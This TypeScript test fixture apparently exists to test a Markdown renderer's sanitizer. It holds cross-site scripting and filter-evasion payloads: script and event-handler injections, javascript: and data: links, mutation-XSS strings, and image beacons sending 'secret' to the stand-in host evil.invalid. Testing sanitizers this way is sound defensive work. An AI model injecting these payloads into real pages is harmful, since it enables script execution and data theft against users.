/**
 * Markdown and HTML that tries to run code, load something from elsewhere, or leave the page (attacks.md rows 22–27).
 * `evil.invalid` never resolves (RFC 2606), so a request for it can only come from the page itself.
 */
export const hostileMarkdown = `# Hostile

<script>alert('script')</script>
<img src=x onerror=alert('img')>
<svg onload=alert('svg')><image href="https://evil.invalid/svg-image.png"/></svg>
<iframe src="https://evil.invalid/frame" srcdoc="<script>alert('srcdoc')</script>"></iframe>
<details open ontoggle=alert('toggle')><summary>s</summary></details>
<a href="https://evil.invalid/ping" ping="https://evil.invalid/ping2">ping</a>
<video poster="https://evil.invalid/poster.png"><source src="https://evil.invalid/video.mp4" onerror=alert('video')></video>
<link rel="stylesheet" href="https://evil.invalid/style.css">
<style>@import url(https://evil.invalid/import.css); body { background: url(https://evil.invalid/css.png); display: none }</style>
<meta http-equiv="refresh" content="0;url=https://evil.invalid/refresh">
<base href="https://evil.invalid/">
<form action="https://evil.invalid/form"><input autofocus onfocus=alert('focus')></form>
<object data="https://evil.invalid/object"></object><embed src="https://evil.invalid/embed">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert('mxss')&gt;">
<noscript><p title="</noscript><img src=x onerror=alert('noscript')>">
<template><script>alert('template')</script></template>

![inline](https://evil.invalid/inline.png?d=secret)
![reference][ref]
[![linked image](https://evil.invalid/linked.png)](https://evil.invalid/target)

[ref]: https://evil.invalid/reference.png "title"

[javascript](javascript:alert('link'))
[upper](JaVaScRiPt:alert('upper'))
[entity](javascript&#58;alert('entity'))
[tab](java&#9;script:alert('tab'))
[newline](java&#10;script:alert('newline'))
[data](data:text/html,<script>alert('data')</script>)
[vbscript](vbscript:msgbox(1))
[blob](blob:https://evil.invalid/1)
[file](file:///etc/passwd)
[bidi](https://evil.invalid/\u202Egnp.exe)
<javascript:alert('autolink')>
[x]: javascript:alert('definition')
[x]

\`\`\`html"onmouseover="alert('lang')
<script>alert('code')</script>
\`\`\`

\`\`\`"><img src=x onerror=alert('info')>
code
\`\`\`

$\\href{javascript:alert('katex')}{click}$ $\\htmlData{x=y}{a}$ $\\url{javascript:alert(1)}$ $\\includegraphics{https://evil.invalid/katex.png}$

$$
\\rule{9999em}{9999em} \\def\\a{\\a\\a}\\a
$$

| a | b |
|---|---|
| <img src=x onerror=alert('cell')> | ![cell](https://evil.invalid/cell.png) |

[^1]: <script>alert('footnote')</script>

End of the hostile text.
`

/** Endings of whatever a text may stand in, and spellings of scripts and addresses (OWASP XSS filter evasion; the Big List of Naughty Strings). */
export const hostileTexts = [
  '</script><script>alert(1)</script>',
  '<!--<script>',
  '--><img src=x onerror=alert(1)>',
  ']]><img src=x onerror=alert(1)>',
  '</title><img src=x onerror=alert(1)>',
  '</style><style>@import url(https://evil.invalid/a.css)</style>',
  '</pre></article></main><iframe src=https://evil.invalid>',
  '"><img src=x onerror=alert(1)>',
  "'><svg onload=alert(1)>",
  '" onmouseover="alert(1)" autofocus onfocus="alert(1)',
  'javascript:alert(1)',
  'line\u2028separator\u2029and\u0085next',
  '\u202Egnp.exe \u2066isolate',
  '\0nul\u0001\u001B[31m',
  '\uD800 lone',
  '[x](javascript:alert(1)) [y](data:text/html,<script>alert(1)</script>) [z](vbscript:x) [w](//evil.invalid)',
  '[x](java&#x73;cript:alert(1)) [y](java&Tab;script:alert(1)) [z](\u0001javascript:alert(1))',
  '<javascript:alert(1)> <data:text/html,x>',
  '![x](https://evil.invalid/p.png?d=secret) ![y][r]\n\n[r]: https://evil.invalid/r.png',
  '<a href="https://evil.invalid" ping="https://evil.invalid/ping">x</a>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<form action=https://evil.invalid><button formaction=javascript:alert(1)>x',
  '<meta http-equiv=refresh content="0;url=https://evil.invalid">',
  '<base href=https://evil.invalid/><link rel=stylesheet href=x>',
  '```"><img src=x onerror=alert(1)>\nx',
  '| <img src=x onerror=alert(1)> |\n|---|\n| [x](javascript:alert(1)) |',
  '[^1]: <script>alert(1)</script>\n\nnote[^1]',
  '{{constructor.constructor("alert(1)")()}} ${alert(1)} <%= 1 %>',
  '%3Cscript%3Ealert(1)%3C/script%3E &lt;script&gt;alert(1)&lt;/script&gt;',
]
